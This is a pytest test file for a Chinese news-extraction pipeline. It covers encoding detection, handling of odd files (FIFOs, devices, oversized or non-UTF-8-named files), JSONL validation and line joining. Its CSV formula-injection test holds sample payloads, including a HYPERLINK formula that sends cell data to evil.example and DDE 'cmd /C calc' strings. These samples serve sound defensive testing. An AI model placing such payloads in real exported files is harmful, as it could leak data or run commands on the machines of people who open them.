"""Hostile and odd input (issue 18): encodings named right, no single file sinks a run, CSV cells that
cannot run as formulas, and the small ones (JSONL booleans and dates, stdin detection, markup)."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import pandas as pd
import pytest
import zhconv

from zhnews.pipeline import ingest
from zhnews.pipeline.assemble import Settings
from zhnews.pipeline.batches import extract_documents
from zhnews.pipeline.errors import E
from zhnews.pipeline.export import export_records, read_table
from zhnews.pipeline.ingest import Document, bounded_lines, iter_documents
from zhnews.pipeline.outputs import error_line, record_line
from zhnews.pipeline.records import ErrorEntry
from tests.conftest import ROOT, SAMPLE_PAGE
from tests.downstream_fixtures import SIGNING_TEXT, signing_record

PAGE_TITLES = 3


def _run(paths: list) -> tuple[list, list]:
    return extract_documents(iter_documents([str(p) if isinstance(p, Path) else p for p in paths]), Settings())


def _traditional_page() -> str:
    return zhconv.convert(SAMPLE_PAGE.read_text(encoding="utf-8"), "zh-tw")


def _entity_texts(records) -> list[list[str]]:
    return [[zhconv.convert(e.text, "zh-cn") for e in r.entities] for r in records]


# --- Encodings named right ------------------------------------------------------------------------

def test_big5_is_read_as_traditional_chinese_and_named(tmp_path: Path) -> None:
    traditional = _traditional_page()
    (tmp_path / "taipei.txt").write_bytes(traditional.encode("big5"))
    [doc] = iter_documents([str(tmp_path / "taipei.txt")])
    assert isinstance(doc, Document)
    assert doc.encoding == "big5" and doc.text == traditional


def test_big5_hkscs_is_read_and_named(tmp_path: Path) -> None:
    text = _traditional_page() + "\n佢哋話嘅嘢㗎。\n"  # Cantonese characters only Big5-HKSCS has
    (tmp_path / "hk.txt").write_bytes(text.encode("big5hkscs"))
    [doc] = iter_documents([str(tmp_path / "hk.txt")])
    assert doc.encoding == "big5-hkscs" and doc.text == text


def test_big5_page_extracts_the_same_entities_as_its_simplified_original(tmp_path: Path) -> None:
    (tmp_path / "taipei.txt").write_bytes(_traditional_page().encode("big5", errors="ignore"))
    big5_records, errors = _run([tmp_path / "taipei.txt"])
    simplified_records, _ = _run([SAMPLE_PAGE])
    assert not errors
    assert len(big5_records) == len(simplified_records) == PAGE_TITLES
    assert [zhconv.convert(r.title or "", "zh-cn") for r in big5_records] == [r.title for r in simplified_records]
    assert _entity_texts(big5_records) == _entity_texts(simplified_records)
    # bylines are found too, and kept as written (塗燕 for 涂燕)
    assert [[zhconv.convert(n, "zh-cn") for n in r.byline.reporters] for r in big5_records] == \
        [r.byline.reporters for r in simplified_records]
    assert big5_records[1].byline.reporters[0] == "塗燕"
    for record in big5_records:
        assert record.source.encoding == "big5"
        for span in record.spans():
            assert record.text[span.start:span.end] == span.text


JAPANESE = ("東京都は十二日、新型の感染症対策について記者会見を開き、来月から新しい支援制度を始めると発表した。"
            "知事は「都民の皆さんの協力が必要です」と述べた。\n")
KOREAN = ("서울시는 12일 새로운 감염병 대책에 대해 기자회견을 열고 다음 달부터 새로운 지원 제도를 시작한다고 "
          "발표했다. 시장은 \"시민 여러분의 협력이 필요합니다\"라고 말했다.\n")


@pytest.mark.parametrize("text,codec,named", [
    (JAPANESE, "shift_jis", "shift_jis"), (JAPANESE, "cp932", "shift_jis"), (JAPANESE, "euc_jp", "euc-jp"),
    (JAPANESE, "iso2022_jp", "iso-2022-jp"), (KOREAN, "euc_kr", "euc-kr"), (KOREAN, "iso2022_kr", "iso-2022-kr"),
])
def test_japanese_and_korean_are_refused_naming_the_encoding(tmp_path: Path, text: str, codec: str,
                                                             named: str) -> None:
    shutil.copy(SAMPLE_PAGE, tmp_path / "a-page.txt")
    (tmp_path / "foreign.txt").write_bytes(text.encode(codec))
    records, errors = _run([tmp_path / "a-page.txt", tmp_path / "foreign.txt"])
    assert len(records) == PAGE_TITLES
    [error] = errors
    assert error.code == E.FOREIGN.value and error.severity == "error"
    assert named in error.message and "foreign.txt" in error.message
    assert ("Japanese" if text is JAPANESE else "Korean") in error.message


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"])
def test_utf16_and_utf32_without_bom_are_detected_before_the_nul_check(tmp_path: Path, codec: str,
                                                                        sample_text: str) -> None:
    (tmp_path / "wide.txt").write_bytes(sample_text.encode(codec))
    [doc] = iter_documents([str(tmp_path / "wide.txt")])
    assert isinstance(doc, Document), doc
    assert doc.encoding == codec and doc.text == sample_text


def _break_at(text: str, codec: str, needle: str) -> tuple[bytes, int]:
    """The text encoded, with the lead byte of the character at ``needle`` replaced by 0xFF."""
    data = text.encode(codec)
    offset = len(text[:text.index(needle)].encode(codec))
    return data[:offset] + b"\xff" + data[offset + 1:], offset


@pytest.mark.parametrize("codec,named", [("gbk", "gb18030"), ("gb18030", "gb18030"), ("big5", "big5-hkscs")])
def test_gbk_and_big5_with_a_bad_byte_are_repaired_with_its_offset(tmp_path: Path, codec: str, named: str,
                                                                   sample_text: str) -> None:
    text = sample_text if codec != "big5" else _traditional_page()
    data, offset = _break_at(text, codec, text[200])
    assert offset > 200  # not at the start: the offset must be the bad byte's, not UTF-8's first failure
    (tmp_path / "broken.txt").write_bytes(data)
    records, errors = _run([tmp_path / "broken.txt"])
    assert len(records) == PAGE_TITLES
    [warning] = errors
    assert warning.code == E.REPAIRED.value and warning.severity == "warning"
    assert warning.byte_offset == offset and f"first at byte {offset}" in warning.message
    assert records[0].source.encoding.startswith(f"{named} (repaired: ")
    assert "\ufffd" in "".join(r.text for r in records)


def test_short_big5_and_gbk_files_are_told_apart(tmp_path: Path) -> None:
    simplified = "据新华社北京1月16日电"
    (tmp_path / "gb.txt").write_bytes(simplified.encode("gbk"))
    (tmp_path / "b5.txt").write_bytes(zhconv.convert(simplified, "zh-tw").encode("big5"))
    gb, b5 = iter_documents([str(tmp_path / "gb.txt"), str(tmp_path / "b5.txt")])
    assert (gb.encoding, gb.text) == ("gb18030", simplified)
    assert (b5.encoding, b5.text) == ("big5", "據新華社北京1月16日電")


# --- No single file sinks a run -------------------------------------------------------------------

def test_a_file_name_that_is_not_utf8_is_read_and_written_with_escapes(tmp_path: Path) -> None:
    shutil.copy(SAMPLE_PAGE, tmp_path / "a-page.txt")
    bad_name = os.path.join(os.fsencode(tmp_path), b"bad\xff\xfe.txt")
    with open(bad_name, "wb") as handle:
        handle.write("永川区与重庆大学签订3个合作项目。".encode("utf-8"))
    for inputs in ([tmp_path], [bad_name]):
        records, errors = _run(inputs)
        uris = {r.source.uri for r in records}
        assert str(tmp_path / "bad\\xff\\xfe.txt") in uris
        [warning] = errors
        assert warning.code == E.BAD_NAME.value and warning.severity == "warning"
        assert "bad\\xff\\xfe.txt" in warning.uri
        for record in records:  # the records and errors can be written: no lone surrogates left
            json.loads(record_line(record).encode("utf-8"))
        for error in errors:
            json.loads(error_line(error).encode("utf-8"))


def test_extract_goes_on_after_a_file_name_that_is_not_utf8(tmp_path: Path) -> None:
    with open(os.path.join(os.fsencode(tmp_path), b"a\xff.txt"), "wb") as handle:
        handle.write("永川区与重庆大学签订3个合作项目。".encode("utf-8"))
    shutil.copy(SAMPLE_PAGE, tmp_path / "b-page.txt")
    env = {k: v for k, v in os.environ.items() if k != "ZHNEWS_DEBUG"}
    proc = subprocess.run([sys.executable, "-m", "zhnews", "extract", str(tmp_path)], cwd=ROOT, env=env,
                          capture_output=True, timeout=300)
    assert proc.returncode == 0, proc.stderr.decode("utf-8", "replace")
    lines = [json.loads(line) for line in proc.stdout.decode("utf-8").splitlines()]
    assert len(lines) == 1 + PAGE_TITLES
    assert lines[0]["source"]["uri"].endswith("a\\xff.txt")


def _in_thread(fn, timeout: float = 30.0):
    """Run fn in a thread; (finished, result). A blocked open or read shows as not finished."""
    box: dict[str, object] = {}
    worker = threading.Thread(target=lambda: box.setdefault("result", fn()), daemon=True)
    worker.start()
    worker.join(timeout)
    return not worker.is_alive(), box.get("result")


def test_a_fifo_is_an_error_entry_and_never_blocks(tmp_path: Path) -> None:
    shutil.copy(SAMPLE_PAGE, tmp_path / "a-page.txt")
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    try:
        for inputs in ([tmp_path], [tmp_path / "a-page.txt", fifo]):
            finished, result = _in_thread(lambda: _run(inputs))
            assert finished, "reading a FIFO blocked the run"
            records, errors = result
            assert len(records) == PAGE_TITLES
            [error] = errors
            assert error.code == E.NOT_REGULAR.value and "FIFO" in error.message and "pipe.txt" in error.uri
    finally:
        try:  # release a reader blocked in open(), if any (the unfixed code)
            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            pass


def test_devices_are_error_entries(tmp_path: Path) -> None:
    # /dev/null stands for /dev/zero (which an unfixed reader would read until memory ran out)
    (tmp_path / "device.txt").symlink_to("/dev/null")
    shutil.copy(SAMPLE_PAGE, tmp_path / "a-page.txt")
    records, errors = _run([tmp_path])
    assert len(records) == PAGE_TITLES
    [error] = errors
    assert error.code == E.NOT_REGULAR.value and "character device" in error.message


def test_the_size_cap_is_checked_before_reading(tmp_path: Path) -> None:
    sparse = tmp_path / "huge.txt"
    with sparse.open("wb") as handle:
        handle.truncate(ingest.max_bytes() + 1_000_000)  # a hole: nothing to read, if anything read it
    [error] = iter_documents([str(sparse)])
    assert error.code == E.TOO_LARGE.value
    assert f"{ingest.max_bytes() + 1_000_000:,} bytes" in error.message and "limit" in error.message


class _Endless(io.RawIOBase):
    """A stream that never ends, counting what was read from it (what /dev/zero or a growing file is)."""

    def __init__(self) -> None:
        self.read_bytes = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        buffer[:] = b"\xe6\xb0\xb8" * (len(buffer) // 3) + b"\n" * (len(buffer) % 3)
        self.read_bytes += len(buffer)
        return len(buffer)


def test_reading_stops_at_the_cap(monkeypatch) -> None:
    monkeypatch.setattr(ingest, "MAX_CHARS", 1000)
    stream = _Endless()
    with pytest.raises(ingest.ZhnewsError) as info:
        ingest._read_capped(io.BufferedReader(stream), "endless.txt")
    assert info.value.code == E.TOO_LARGE
    assert stream.read_bytes <= ingest.max_bytes() + 1 + io.DEFAULT_BUFFER_SIZE


def test_bounded_lines_cut_long_lines_and_skip_their_rest() -> None:
    data = b"short\n" + b"x" * 100 + b"\n" + b"y" * 3_000_000 + b"\nlast"  # the second rest is over a chunk
    assert list(bounded_lines(io.BufferedReader(io.BytesIO(data)), 10)) == [b"short\n", b"x" * 11, b"y" * 11,
                                                                            b"last"]


def test_jsonl_lines_have_the_same_cap(monkeypatch, tmp_path: Path) -> None:
    monkeypatch.setattr(ingest, "MAX_CHARS", 100)
    lines = [json.dumps({"id": "ok", "text": "全区已有大中专院校18所。"}, ensure_ascii=False),
             json.dumps({"id": "long-text", "text": "永" * 200}, ensure_ascii=False),
             json.dumps({"id": "long-line", "text": "永" * 30_000}, ensure_ascii=False),
             json.dumps({"id": "after", "text": "永川区签订3个项目。"}, ensure_ascii=False)]
    (tmp_path / "in.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    results = list(iter_documents([str(tmp_path / "in.jsonl")]))
    assert [type(r).__name__ for r in results] == ["Document", "ErrorEntry", "ErrorEntry", "Document"]
    assert [(r.code, r.line) for r in results if isinstance(r, ErrorEntry)] == [
        (E.TOO_LARGE.value, 2), (E.TOO_LARGE.value, 3)]


# --- The small ones -------------------------------------------------------------------------------

def test_page_layout_must_be_a_json_boolean(tmp_path: Path) -> None:
    lines = [{"id": "s", "text": "永川。", "page_layout": "false"}, {"id": "t", "text": "永川。", "page_layout": True},
             {"id": "f", "text": "永川。", "page_layout": False}, {"id": "n", "text": "永川。", "page_layout": 1},
             {"id": "absent", "text": "永川。"}]
    (tmp_path / "in.jsonl").write_text("\n".join(json.dumps(x) for x in lines) + "\n", encoding="utf-8")
    results = list(iter_documents([str(tmp_path / "in.jsonl")]))
    assert [(r.code, r.line) for r in results if isinstance(r, ErrorEntry)] == [
        (E.BAD_FIELD.value, 1), (E.BAD_FIELD.value, 4)]
    assert "page_layout" in results[0].message and '"false" (a string)' in results[0].message
    assert [(d.uri.rsplit("#")[1], d.is_page) for d in results if isinstance(d, Document)] == [
        ("t", True), ("f", False), ("absent", False)]


@pytest.mark.parametrize("date", ["2019-02-30", "<script>", "2019-2-1", "20190201", 20190201, "2019-02-01T10:00"])
def test_a_bad_jsonl_date_is_a_warning_and_not_used(tmp_path: Path, date: object) -> None:
    line = json.dumps({"id": "a", "date": date, "text": "12月12日，永川区签订3个项目。当天还举行了仪式。"},
                      ensure_ascii=False)
    (tmp_path / "in.jsonl").write_text(line + "\n", encoding="utf-8")
    records, errors = _run([tmp_path / "in.jsonl"])
    [record] = records
    assert record.date is None
    [warning] = errors
    assert warning.code == E.BAD_DATE.value and warning.severity == "warning" and warning.line == 1
    assert json.dumps(date, ensure_ascii=False) in warning.message


def test_a_good_jsonl_date_is_kept(tmp_path: Path) -> None:
    line = json.dumps({"id": "a", "date": "２０１９-０２-２８", "text": "永川区签订3个项目。"}, ensure_ascii=False)
    (tmp_path / "in.jsonl").write_text(line + "\n", encoding="utf-8")
    [doc] = iter_documents([str(tmp_path / "in.jsonl")])
    assert doc.date == "2019-02-28" and not doc.warnings


def test_a_page_on_stdin_that_starts_with_a_brace_is_a_page() -> None:
    page = "{编者按}\n本报讯（记者王迪）江北区人民政府与重庆大学签署战略合作协议。\n双方将在人才培养方面合作。\n"
    [doc] = iter_documents(["-"], stdin=io.BytesIO(page.encode("utf-8")))
    assert isinstance(doc, Document) and doc.text == page and doc.is_page


def test_jsonl_on_stdin_with_a_bad_line_is_still_jsonl() -> None:
    data = b'{"id": "s1", "text": "\xe6\xb0\xb8"}\n{bad\n{"id": "s2", "text": "\xe6\xb0\xb8\xe5\xb7\x9d"}\n'
    results = list(iter_documents(["-"], stdin=io.BytesIO(data)))
    assert [type(r).__name__ for r in results] == ["Document", "ErrorEntry", "Document"]
    assert results[1].line == 2


def test_jsonl_text_with_markup_is_not_blanked(tmp_path: Path) -> None:
    text = "永川区发布通知，要求网站过滤<script>标签，并在<p>段落中注明来源。"
    (tmp_path / "in.jsonl").write_text(json.dumps({"id": "a", "text": text}, ensure_ascii=False) + "\n",
                                       encoding="utf-8")
    records, errors = _run([tmp_path / "in.jsonl"])
    assert not errors
    [record] = records
    assert record.text == text


def test_markup_is_blanked_only_in_html(tmp_path: Path) -> None:
    mention = "本报讯 网站编辑在<p>段落中加注，永川区签订3个合作项目。\n"
    document = "<!DOCTYPE html><html><body><p>永川区签订3个合作项目。</p></body></html>"
    (tmp_path / "mention.txt").write_text(mention, encoding="utf-8")
    (tmp_path / "document.txt").write_text(document, encoding="utf-8")
    (tmp_path / "page.htm").write_text("<p>永川区签订3个合作项目。</p>", encoding="utf-8")
    by_name = {Path(d.uri).name: d.markup for d in iter_documents([str(tmp_path)], globs=("*.txt", "*.htm"))}
    assert by_name == {"mention.txt": False, "document.txt": True, "page.htm": True}
    records, _ = _run([tmp_path / "mention.txt"])
    assert "<p>" in records[0].text


# --- CSV formula injection ------------------------------------------------------------------------

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _hostile_record():
    record = signing_record(text="-2+3 " + SIGNING_TEXT, title=HOSTILE_TITLE)
    record.byline.outlet = "@SUM(A1:A9)"
    record.subtitle = "'quoted already"
    record.source.uri = "+cmd|' /C calc'!A0"
    record.date = "\t2023-12-13"
    record.quantities[2] = record.quantities[2].model_copy(update={"value": -1.5, "subject": "\r=1+1"})
    return record


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_cells_cannot_run_as_formulas(tmp_path: Path) -> None:
    record = _hostile_record()
    errors = [ErrorEntry(uri="=cmd|' /C calc'!A0", code="E002", message="-bad", line=-1)]
    export_records([record], tmp_path, errors=errors)
    [article] = _csv_rows(tmp_path / "articles.csv")
    assert article["title"] == "'" + HOSTILE_TITLE
    assert article["text"].startswith("'-2+3 ")
    assert article["byline_outlet"] == "'@SUM(A1:A9)"
    assert article["subtitle"] == "''quoted already"
    assert article["source_uri"] == "'+cmd|' /C calc'!A0"
    assert article["date"] == "'\t2023-12-13"
    money = [q for q in _csv_rows(tmp_path / "quantities.csv") if q["text"] == "约20万元"][0]
    assert money["value"] == "-1.5"  # numbers stay numbers
    assert money["subject"] == "'\r=1+1"
    [error] = _csv_rows(tmp_path / "errors.csv")
    assert error["uri"] == "'=cmd|' /C calc'!A0" and error["message"] == "'-bad" and error["line"] == "-1"
    for cell in (c for rows in (_csv_rows(p) for p in tmp_path.glob("*.csv")) for row in rows for c in row.values()):
        assert not cell or cell[0] not in "=+@\t\r" and not (cell[0] == "-" and not _is_number(cell)), cell


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_read_table_and_parquet_give_the_raw_values(tmp_path: Path) -> None:
    record = _hostile_record()
    export_records([record], tmp_path)
    for fmt in ("csv", "parquet"):
        article = read_table(tmp_path / f"articles.{fmt}").iloc[0]
        assert article["title"] == HOSTILE_TITLE and article["subtitle"] == "'quoted already"
        assert article["source_uri"] == record.source.uri and article["date"] == "\t2023-12-13"
        assert article["text"] == record.text
        quantities = read_table(tmp_path / f"quantities.{fmt}").set_index("text")
        assert quantities.loc["约20万元", "value"] == -1.5 and quantities.loc["约20万元", "subject"] == "\r=1+1"
    assert pd.read_parquet(tmp_path / "articles.parquet").iloc[0]["title"] == HOSTILE_TITLE


def test_utf8_after_a_bom_is_repaired_and_its_offsets_count_the_bom(tmp_path: Path, sample_text: str) -> None:
    data, offset = _break_at(sample_text, "utf-8", sample_text[200])
    (tmp_path / "bom.txt").write_bytes(b"\xef\xbb\xbf" + data)
    [doc] = iter_documents([str(tmp_path / "bom.txt")])
    assert isinstance(doc, Document) and doc.encoding.startswith("utf-8 (BOM) (repaired: ")
    [warning] = doc.warnings
    assert warning.code == E.REPAIRED.value and warning.byte_offset == offset + 3
    (tmp_path / "utf16.txt").write_bytes(b"\xff\xfe" + "新闻".encode("utf-16-le") + b"\x00\xdc")
    [error] = iter_documents([str(tmp_path / "utf16.txt")])
    assert error.code == E.UNDECODABLE.value and error.byte_offset == 6


# --- The run's own output is never read back (finding 5) ---------------------------------------------

def test_the_out_folder_inside_an_input_folder_is_not_read(tmp_path: Path) -> None:
    shutil.copy(SAMPLE_PAGE, tmp_path / "page.txt")
    out = tmp_path / "out"
    out.mkdir()
    (out / "records.jsonl").write_text(json.dumps({"text": "本报讯 这是上一次运行的输出。"}, ensure_ascii=False) + "\n",
                                       encoding="utf-8")
    read = [i.uri for i in iter_documents([str(tmp_path)], exclude=[out]) if isinstance(i, Document)]
    assert read and all(Path(uri.split("#")[0]).name == "page.txt" for uri in read)


# --- The temporary Prefect server ends with its run, even on SIGKILL (finding 9) ---------------------

def _carrying(prefix: str) -> list[int]:
    """Processes whose environment carries a run token starting with ``prefix`` (runtime.RUN_TOKEN_ENV)."""
    mark = f"ZHNEWS_RUN_TOKEN={prefix}".encode()
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                env = Path(f"/proc/{name}/environ").read_bytes().split(b"\0")
            except OSError:
                continue
            if any(item.startswith(mark) for item in env):
                found.append(int(name))
    return found


def _cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


@pytest.mark.skipif(not Path("/proc/self/environ").exists(), reason="reads /proc")
def test_sigkill_of_run_leaves_no_prefect_server(tmp_path: Path) -> None:
    import signal
    import time

    env = {k: v for k, v in os.environ.items() if not k.startswith("PREFECT_")}
    run = subprocess.Popen([str(Path(sys.executable).parent / "zhnews"), "run", str(SAMPLE_PAGE), "--out",
                            str(tmp_path / "out"), "--no-report", "-q"], env=env,
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 240
        server: list[int] = []
        while not server and time.monotonic() < deadline and run.poll() is None:
            time.sleep(0.5)
            server = [p for p in _carrying(f"{run.pid}-") if "uvicorn" in _cmdline(p)]
        assert server, "the run never started a temporary Prefect server"
    finally:
        run.send_signal(signal.SIGKILL)
        run.wait()
    deadline = time.monotonic() + 15
    while _carrying(f"{run.pid}-") and time.monotonic() < deadline:
        time.sleep(0.2)
    assert _carrying(f"{run.pid}-") == []


# --- Lines joined only where a word was cut (finding 10) ---------------------------------------------

FIGURES = ("截至2018年底，6万人次三级医院医务人员参与贫困县医院工作，门诊诊疗人次超过3000万\n1014名\n"
           "“组团式”援疆援藏稳步推进，截至2018年底，共派出1014名专家支援新疆、西藏。")
ORGANISERS = ("地点：中国·河北·正定·石家庄国际会展中心\n主办方：工业和信息化部　　河北省人民政府\n"
              "经党中央国务院批准的以数字经济冠名的国际博览会\n国际化　专业化　高端化　产业化\n")


@pytest.mark.parametrize("page", [False, True])
def test_a_figure_line_is_not_glued_to_the_line_before(page: bool) -> None:
    from zhnews.pipeline import extract_text

    [record] = extract_text(FIGURES, source="figures.txt", page=page)
    values = {q.text: q.value for q in record.quantities}
    assert values.get("超过3000万") == 30_000_000 and values.get("1014名") == 1014
    assert 30_001_014 not in values.values()
    assert all("\n" not in span.text for span in record.spans())


@pytest.mark.parametrize("page", [False, True])
def test_a_heading_line_is_not_glued_to_the_organisation_before(page: bool) -> None:
    from zhnews.pipeline import extract_text

    [record] = extract_text(ORGANISERS, source="organisers.txt", page=page)
    orgs = [e.text for e in record.entities if e.label == "ORG"]
    assert "河北省人民政府" in orgs and not any("经" in o for o in orgs)
    assert "河北省人民政府\n经党中央" in record.text


@pytest.mark.parametrize("line, next_line, joined", [
    ("重庆城市职业学院、重庆智能工程职业学", "院、重庆现代制造职业学院等6所高校", True),  # a word cut by the column
    ("开幕式举行了“长江工坊”成立仪式并向“长江工坊”专家智库专家代表授予", "了聘书。", True),  # 了 starts no paragraph
    ("我们将充分发挥职业教育优势，深化与东盟各国的交流合作，以本次活动为契机,与兄弟", "市(区)不断强化战略协作。", True),
    ("重庆水利电力职业技术学院、", "重庆城市职业学院。", True),  # a list goes on after 、
    ("核心阅读", "古代建筑是不可移动文物，保护好它们是我们的责任。", False),  # a sub-heading
    ("朱婷圆梦，榜样闪光", "在本赛季联赛技术榜上，朱婷名列前茅。", False),  # a two-part heading
    ("门诊诊疗人次超过3000万", "1014名", False),  # a figure of its own
    ("9:00-12:00 机器人技能竞赛", "13:00-15:00 无人机竞速表演赛", False),  # two lines of a schedule
])
def test_which_lines_continue(line: str, next_line: str, joined: bool) -> None:
    from zhnews.pipeline.normalise import continues_cut_line, to_halfwidth

    assert continues_cut_line(to_halfwidth(line), to_halfwidth(next_line)) is joined
